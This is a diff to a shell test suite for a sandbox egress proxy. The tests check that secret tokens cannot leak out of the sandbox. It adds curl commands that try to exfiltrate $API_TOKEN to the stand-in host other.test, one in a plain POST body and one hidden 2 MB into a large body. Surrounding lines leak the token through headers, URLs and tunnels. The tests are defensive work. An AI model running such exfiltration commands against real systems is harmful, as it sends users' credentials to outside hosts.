@@ -116,6 +116,17 @@ run sbx "${pol[@]}" -- bash -c "$C -p -H \"X-Leak: \$API_TOKEN\" http://other.te
 check "through a CONNECT tunnel (first bytes scanned): refused (status $STATUS)" test "$STATUS" -ne 0
 run sbx "${pol[@]}" -- bash -c "$C --socks5-hostname 127.0.0.1:1080 -H \"X-Leak: \$API_TOKEN\" http://other.test/exfil-socks"
 check "through a SOCKS5 tunnel: refused (status $STATUS)" test "$STATUS" -ne 0
+run sbx "${pol[@]}" -- bash -c "$C -i --data-binary \"token=\$API_TOKEN\" http://other.test/exfil-body"
+check "plain HTTP with the placeholder in the body: 403 exfiltration" \
+    out_has_both '^HTTP/1.1 403' '^X-ExGuardian-Refused: exfiltration'
+# Late in a large body (scanned whole, unlike a tunnel's first 64 KiB): the request is cut
+# before the placeholder; only its head reaches the server.
+run sbx "${pol[@]}" -- bash -c "{ head -c 2000000 /dev/zero | tr '\\0' x; echo \"&token=\$API_TOKEN\"; } > /tmp/big; \
+    $C -i --data-binary @/tmp/big http://other.test/exfil-late-body"
+check "a placeholder 2 MB into a plain-HTTP body: no answer from the server (status $STATUS)" \
+    bash -c "! grep -q '^HTTP/1.1 200' <<<'$OUT'"
+check "audit: both body placeholders logged (with the head, and 2 MB in)" \
+    bash -c "test \$(grep '\"where\":\"body\"' '$audit' | grep -c API_TOKEN) -ge 2"
 run sbx "${pol[@]}" -- bash -c "$C -p \"http://\$API_TOKEN.other.test/\""
 check "placeholder as the CONNECT target: refused (status $STATUS)" test "$STATUS" -ne 0
 run sbx "${pol[@]}" -- bash -c "$C --socks5-hostname 127.0.0.1:1080 \"http://\$API_TOKEN.allowed.test/\""
@@ -128,9 +139,10 @@ try:
 except urllib.error.HTTPError as e:
     print(e.code, e.headers.get("X-ExGuardian-Refused"))'
 check "python urllib to another host: 403 exfiltration" grep -q "^403 exfiltration" <<<"$OUT"
-check "none of these requests arrived at the world's servers ($before -> $(server_log_count))" \
-    test "$(server_log_count)" = "$before"
-check "no exfil request in any server log" bash -c "! grep -q exfil '$EGW_LOG' '$SLOG'"
+check "none of these requests arrived at the world's servers but the late body's head ($before -> $(server_log_count))" \
+    test "$(server_log_count)" = "$((before + 1))"
+check "no placeholder reached the world's servers" bash -c "! grep -q exg_ph_ '$EGW_LOG'"
+check "no exfil request in the HTTPS servers' log" bash -c "! grep -q exfil '$SLOG'"
 # Over TLS to a host without secrets the proxy sees no headers: it arrives as the placeholder only.
 run sbx "${pol[@]}" -- bash -c "$C -H \"Authorization: Bearer \$API_TOKEN\" https://plain.test/tls-other"
 check "to plain.test over TLS: the placeholder only, never the value" \
@@ -138,6 +150,7 @@ check "to plain.test over TLS: the placeholder only, never the value" \
 check "audit: exfiltration in a header (plain HTTP)" audit_exfil "header Authorization" other.test
 check "audit: exfiltration in a URL" audit_exfil url other.test
 check "audit: exfiltration in a tunnel's first bytes" audit_exfil tunnel other.test
+check "audit: exfiltration in a plain-HTTP body" audit_exfil body other.test
 check "audit: exfiltration as a CONNECT target" bash -c "grep '\"connect target\"' '$audit' | grep -q API_TOKEN"
 check "audit: exfiltration as a SOCKS target" bash -c "grep '\"socks target\"' '$audit' | grep -q API_TOKEN"
 
